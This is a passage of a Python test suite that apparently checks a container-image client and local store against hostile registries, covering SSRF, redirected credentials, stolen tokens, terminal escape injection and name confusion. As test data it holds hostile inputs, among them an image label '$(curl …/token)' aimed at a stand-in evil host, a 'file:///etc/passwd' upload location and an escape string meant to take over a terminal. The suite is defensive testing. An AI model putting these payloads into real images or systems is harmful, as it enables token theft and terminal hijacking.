    login = {"auths": {bait.server.host: {"auth": LOGIN.basic.removeprefix("Basic ")}}}
    (tmp_path / "config.json").write_text(json.dumps(login))
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path))
    monkeypatch.setenv("IMGKIT_HOME", str(tmp_path / "store"))
    assert main(["pull", "-a", f"{bait.server.host}/app"]) == 0
    assert verify(Store(tmp_path / "store").image(f"{bait.server.host}/app:tag")) == []


def test_endless_pages(servers: Servers) -> None:
    """A list that always has one more page is given up on."""
    more = {f"?last={n}": page([f"t{n}"], f"<?last={n + 1}>; rel=next") for n in range(1, 999)}
    found, asked = listed({"": page(["t0"], "<?last=1>; rel=next")} | more, servers)
    assert isinstance(found, LimitExceeded)
    check_words(found, servers, "over 500 pages", "list of tags from SERVER")
    assert len(asked) == 500
    assert servers[1].received == []


@pytest.mark.parametrize("link", ["<EVIL/>; rel=next", "<https://10.0.0.1/>; rel=next"])
def test_referrers_elsewhere(link: str, servers: Servers) -> None:
    """The list of what refers to a manifest is followed nowhere else either."""
    bait = Bait(*servers)
    digest = Digest.of(b"subject")
    answer = (200, {"Link": link}, b'{"manifests":[]}')
    lay_pages(bait, {"": answer}, f"/v2/app/referrers/{digest}")
    client = Client(credentials=Credentials({bait.server.host: LOGIN}), patience=hurried())
    with pytest.raises(RegistryError) as caught:
        client.repository(Reference.parse(f"{bait.server.host}/app")).referrers(digest)
    client.session.close()
    assert bait.evil.received == []
    check_words(caught.value, servers, "elsewhere|private network", "http://EVIL/|10.0.0.1")


@pytest.mark.parametrize("domain", ["", "docker.io/", "docker.io/library/"])
def test_a_name_like_a_digest(domain: str, tmp_path: Path) -> None:
    """No image gets the name `sha256`, as in Docker: its tag could pass for another image's ID."""
    store = Store(tmp_path / "store")
    config = Config.make(Platform("linux", "amd64"), [], [])
    blob = store.put_bytes(config.raw, OCI_CONFIG)
    made = store.put_bytes(Manifest.make(blob, []).raw, OCI_MANIFEST)
    for name in (f"{domain}sha256:{made.digest.hex[:12]}", f"{domain}sha512:latest"):
        with pytest.raises(InvalidReference, match="ambiguous"):
            store.name(Reference.parse(name), made, None)
    assert store.records() == []


def test_a_registry_offers_a_name_like_a_digest(tmp_path: Path) -> None:
    """A mirror that has an image called `sha256`, with the ID of another as its tag: not named."""
    store = Store(tmp_path / "store")
    with answering({}) as server, answering({}) as evil:
        bait = Bait(server, evil)
        bait.lay()
        wanted = Digest.of(b"trusted").hex[:12]
        name = Reference.parse(f"sha256:{wanted}")
        for path, answer in list(server.answers.items()):
            server.answers[path.replace("/v2/app/", "/v2/library/sha256/")] = answer
        tagged = server.answers["/v2/app/manifests/tag"]
        server.answers[f"/v2/library/sha256/manifests/{wanted}"] = tagged
        client = Client(mirror=server.url, patience=hurried())
        with pytest.raises(InvalidReference, match="ambiguous"):
            copy(client.repository(name), store, name)
        client.session.close()
        assert store.records() == []
        check(store, evil)


STEPS: Final = ("/v2/", "/v2/app/manifests/tag")

# -- push -------------------------------------------------------------------------------------

UPLOADS: Final = "/v2/app/blobs/uploads/"


def push(bait: Bait, store: Store, siblings: tuple[str, ...] = ()) -> None:
    """The honest image goes back to its registry, as app:new."""
    bait.pull(store)
    name = Reference.parse(f"{bait.server.host}/app:new")
    image = store.image(f"{bait.server.host}/app:tag")
    store.name(name, image.descriptor, None)
    credentials = Credentials({bait.server.host: LOGIN})
    client = Client(credentials=credentials, patience=hurried())
    repository = client.repository(name)
    repository.siblings = siblings
    bait.server.answers[bait.blob_path] = (404, {}, b"")
    try:
        copy(store, repository, name)
    finally:
        client.session.close()


def begun_at(location: str) -> Callable[[Request], Answer]:
    """Takes an upload, there, from who shows the token."""

    def answer(request: Request) -> Answer:
        if request.headers.get("Authorization") != "Bearer our-token":
            return 401, {"WWW-Authenticate": 'Bearer realm="/token"'}, b""
        return 202, {"Location": location}, b""

    return answer


@pytest.mark.parametrize("siblings", [(), ("other",)])
def test_an_upload_elsewhere(siblings: tuple[str, ...], servers: Servers, tmp_path: Path) -> None:
    """Sent to upload at the evil host, with nothing mounted, we give it the bytes alone."""
    store = Store(tmp_path / "store")
    server, evil = servers
    bait = Bait(server, evil)
    bait.lay()
    server.answers[UPLOADS] = begun_at(f"{evil.url}/up")
    server.answers["/v2/app/manifests/new"] = (201, {}, b"")
    evil.answers["/up"] = (201, {}, b"")
    push(bait, store, siblings)
    assert [(r.method, r.body) for r in evil.received] == [("PUT", bait.layer)]
    check(store, evil)
    asked = [r.path.removeprefix(UPLOADS) for r in server.received if r.path.startswith(UPLOADS)]
    mount = f"?mount={Digest.of(bait.layer)}&from=other".replace(":", "%3A")
    assert set(asked) == {mount if siblings else ""}
    (made,) = (r.body for r in server.received if r.path == "/v2/app/manifests/new")
    assert Digest.of(made) == store.image(f"{server.host}/app:tag").digest


BAD_UPLOADS: list[tuple[str, str, str]] = [
    ("http://example.com/up", "over http to another machine", "http://example.com/up"),
    ("https://10.0.0.1/up", "into a private network", "https://10.0.0.1/up"),
    ("file:///etc/passwd", "only http and https", "file:///etc/passwd"),
    ("http://me:pw@EVIL/up", "a user name", "EVIL/up"),
    ("", "does not say where", "takes an upload"),
    ("EVIL/refused", "without a login", "EVIL"),
]


@pytest.mark.parametrize(("location", "expected", "came"), BAD_UPLOADS)
def test_a_bad_upload(
    location: str, expected: str, came: str, servers: Servers, tmp_path: Path
) -> None:
    """Uploads are followed by the same rules; a tag for what was not taken is not made."""
    store = Store(tmp_path / "store")
    server, evil = servers
    bait = Bait(server, evil)
    bait.lay()
    place = location.replace("EVIL", evil.url if location.startswith("EVIL") else evil.host)
    server.answers[UPLOADS] = begun_at(place)
    evil.answers["/refused"] = (401, {"WWW-Authenticate": "Basic realm=x"}, b"")
    with pytest.raises(RegistryError) as caught:
        push(bait, store)
    check(store, evil)
    check_words(caught.value, servers, expected, came)
    assert set(evil.paths()) <= {"/refused"}
    assert "PUT" not in {r.method for r in server.received}


def test_a_stolen_token_mounts_nothing(servers: Servers, tmp_path: Path) -> None:
    """An evil registry that names an honest one's token service learns no more than anybody.

    Pulled from, it is shown a token of that service, for what everybody may pull: a blob of a
    closed repository comes with it neither by GET nor by a mount, and nobody's login was asked.
    """
    hidden = Digest.of(b"hidden")
    registry = Registry([Store(tmp_path / "remote")], users={"me": "hunter2"}, private=["secret"])
    with registry.stores[0].ingest() as blob:
        blob.write(b"hidden")
        blob.commit(hidden)
    registry.repositories.add(Reference.parse("secret"), hidden)
    _, evil = servers
    with transport.serve(registry) as served, Asker(served.url) as asker:
        claims = f'Bearer realm="{served.url}/token",scope="repository:library/secret:pull,push"'
        claims += ',error="insufficient_scope"'
        evil.answers |= {path: (401, {"WWW-Authenticate": claims}, b"") for path in STEPS}
        name = Reference.parse(f"{evil.host}/app:tag")
        store = Store(tmp_path / "store")
        client = Client(credentials=Credentials({served.host: LOGIN}), patience=hurried())
        with pytest.raises(Unauthorized, match=r"read app \(401\).*without a login"):
            copy(client.repository(name), store, name)
        client.session.close()
        words = {r.headers["Authorization"] for r in evil.received if "Authorization" in r.headers}
        assert words
        mounts = f"{served.url}/v2/library/new/blobs/uploads/?mount={hidden}&from=library/secret"
        for word in words:
            shown = {"Authorization": word}
            got = asker.get(f"{served.url}/v2/library/secret/blobs/{hidden}", headers=shown)
            assert (got.status_code, hidden.encode() in got.content) == (401, False)
            assert "a token is needed" in got.json()["errors"][0]["message"]
            assert asker.post(mounts, headers=shown).status_code == 401
        own = {"scope": "repository:library/new:pull,push"}
        word = asker.get(f"{served.url}/token", own, auth=("me", "hunter2")).json()["token"]
        shown = {"Authorization": f"Bearer {word}"}  # good for `new`, not for `secret`
        assert asker.post(mounts, headers=shown).status_code == 202
        got = asker.get(f"{served.url}/v2/library/new/blobs/{hidden}", headers=shown)
        assert (got.status_code, got.json()["errors"][0]["code"]) == (404, "BLOB_UNKNOWN")
    assert store.records() == []
    assert not any(secret in str(evil.received) for secret in SECRETS[:2])
    assert not registry.repositories.holds(Reference.parse("new"), hidden)
    registry.close()


# -- what a screen shows ----------------------------------------------------------------------

STEER: Final = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e"
SHOWN: Final = [
    ["images"],
    ["history", "NAME"],
    ["history", "--no-trunc", "NAME"],
    ["inspect", "NAME"],
    ["inspect", "--format", "{{.Config.Labels}} {{.Config.Cmd}} {{.Author}}", "NAME"],
    ["run", "--rm", "NAME", "ls", "-la", "/etc"],
    ["run", "--rm", "NAME", "env"],
    ["pull", "NAME"],
    ["verify", "NAME"],
]


def test_an_image_does_not_steer(
    servers: Servers,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    """Escape sequences in labels, history, settings and file names of an image reach no screen."""
    server, evil = servers
    bait = Bait(server, evil)
    tar = tar_of({f"etc/{STEER}": b"1"})
    bait.layer = gzip.compress(tar, mtime=0)
    labels = {STEER: STEER, "run": f"$(curl {evil.url}/token)"}
    bait.config |= {
        "author": STEER,
        "rootfs": {"type": "layers", "diff_ids": [str(Digest.of(tar))]},
        "history": [{"created_by": STEER, "comment": STEER, "author": STEER}],
        "config": {"Labels": labels, "Cmd": [STEER], "Env": [f"A={STEER}", "PATH=/bin"]},
    }
    bait.manifest["annotations"] = {STEER: STEER}
    bait.challenge = "Basic realm=x"
    bait.lay()
    server.answers["/v2/"] = (200, {}, b"")
    monkeypatch.setenv("IMGKIT_HOME", str(tmp_path / "store"))
    name = f"{server.host}/app:tag"
    assert main(["pull", name]) == 0
    for words in SHOWN:
        main([word.replace("NAME", name) for word in words])
        told = capfd.readouterr()
        text = (told.out + told.err).replace("\n", "").replace("\t", "")
        assert text, words
        if words[0] != "run":  # what a program prints is its own affair
            assert text.isprintable(), words
    store = Store(tmp_path / "store")
    assert json.loads(store.image(name).config.raw)["config"]["Labels"] == labels
    check(store, evil)
    assert evil.received == []


ROWS: Final[dict[str, list[Callable[..., Any]]]] = {
    "credentials sent to foreign-layer host": [foreign_urls, foreign_only],
    "Authorization kept on cross-host redirect": [
        blob_elsewhere,
        test_access.test_nothing_is_taken_along,
    ],
    ".netrc re-applied after redirect": [test_a_netrc_is_not_read_after_a_redirect],
    "token sent to foreign host via upload Location": [
        test_an_upload_elsewhere,
        test_a_bad_upload,
        test_push.test_an_upload_elsewhere_gets_no_login,
    ],
    "realm SSRF / credential phishing": [realm, token_service_sends_on, token_service_at_evil],
    "Link header SSRF / endless pages": [
        test_bad_pages,
        test_endless_pages,
        test_referrers_elsewhere,
    ],
    "http downgrade": [test_down_to_http, sent_to, test_challenge.test_not_followed],
    "huge manifest/config/token/error body": [
        huge_manifest,
        endless_manifest,
        huge_config,
        huge_token,
        huge_error,
    ],
    "manifest type confusion": [manifest, header],
    "duplicate or case-different JSON keys": [raw_manifest, raw_config, manifest],
    "digest used as path": [layer],
    "manifest is not the asked digest": [another_than_asked],
    "Docker-Content-Digest lies": [test_a_false_header_is_noted],
    "blob shorter/longer than size": [body],
    "trailing bytes after gzip": [test_bytes_after_the_end],
    "wrong Content-Length / none": [body, test_faults.test_a_wrong_length_is_noticed],
    "Content-Encoding: gzip on a blob": [body],
    "gzip/zstd bomb": [test_a_bomb_comes_but_does_not_go_off],
    "slow server, stalls": [trickling, trickling_elsewhere, stalling],
    "too many / deep / cyclic index": [
        wide_index,
        deep_index,
        many_indexes,
        one_index_many_times,
        test_nested.test_width,
    ],
    "negative descriptor size": [layer],
    "non-matching diff_ids count": [config],
    "rootfs.type not layers": [config],
    "history longer/shorter than layers": [config],
    "labels as terminal escapes": [
        config,
        other_platforms,
        test_an_image_does_not_steer,
        test_commands.test_names_of_strangers_do_not_steer_the_terminal,
    ],
    "errors as terminal escapes": [test_an_error_does_not_steer],
    "cross-repo mount without right": [
        test_a_stolen_token_mounts_nothing,
        test_an_upload_elsewhere,
        test_guard.test_a_mount_opens_no_door,
    ],
    "name/tag confusion in the local store": [
        test_a_name_like_a_digest,
        test_a_registry_offers_a_name_like_a_digest,
    ],
}
"""For each known attack, what makes it: rows of the tables above, or tests."""


@pytest.mark.parametrize("row", ROWS)
def test_every_row_is_made(row: str) -> None:
    """Whatever stands in the list is a test, or a row of a table that a test goes through.

    One at least is made here, with two servers.
    """
    spoils = {name_of(spoil) for spoil in (*HARMLESS, *(spoil for spoil, *_ in REFUSED))}
    names = {function.__name__ for function in ROWS[row]}
    assert names
    assert {name for name in names - spoils if not name.startswith("test_")} == set()
    assert any(function.__module__ == __name__ for function in ROWS[row])
